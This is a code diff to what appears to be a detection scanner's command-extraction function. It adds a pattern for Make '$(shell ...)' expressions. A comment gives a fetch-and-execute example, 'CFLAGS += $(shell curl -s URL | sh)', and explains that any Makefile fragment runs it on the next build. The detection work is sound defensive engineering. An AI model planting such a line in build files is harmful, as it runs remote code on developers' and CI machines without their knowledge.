@@ -3344,8 +3344,11 @@ def _command_text(text: str) -> tuple[list[str], list[str]]:
         for line in lines
         if (m := _SETTING_VALUE.match(line)) and not m.group(1).startswith(("$(", "`"))
     ]
+    # (and what make runs while it reads a file of its own, `CFLAGS += $(shell curl -s URL | sh)`: every
+    # Makefile fragment, `.mk` or `Makevars`, runs it on the next build)
+    shelled = [m.group(1) for m in _MAKE_SHELL.finditer(text[:MAX_TEXT])] if "$(shell" in text else []
     found = []
-    for candidate in (*literals, *joined, *values, *lines):
+    for candidate in (*literals, *joined, *values, *shelled, *lines):
         line = candidate.strip()
         if (
             len(line) <= 4096
@@ -3358,6 +3361,7 @@ def _command_text(text: str) -> tuple[list[str], list[str]]:
 
 
 _SETTING_VALUE = re.compile(r"^\s*[\w.-]+\s*[:=]\s*(\S.*)$")
+_MAKE_SHELL = re.compile(r"\$\(shell[ \t]+([^\n]*?)\)[ \t]*(?:#.*)?$", re.MULTILINE)
 _FIRST_WORD = re.compile(r"^[\s({]*(?:\$\()?[\s(]*([^\s;|&()'\"]+)")
 
 
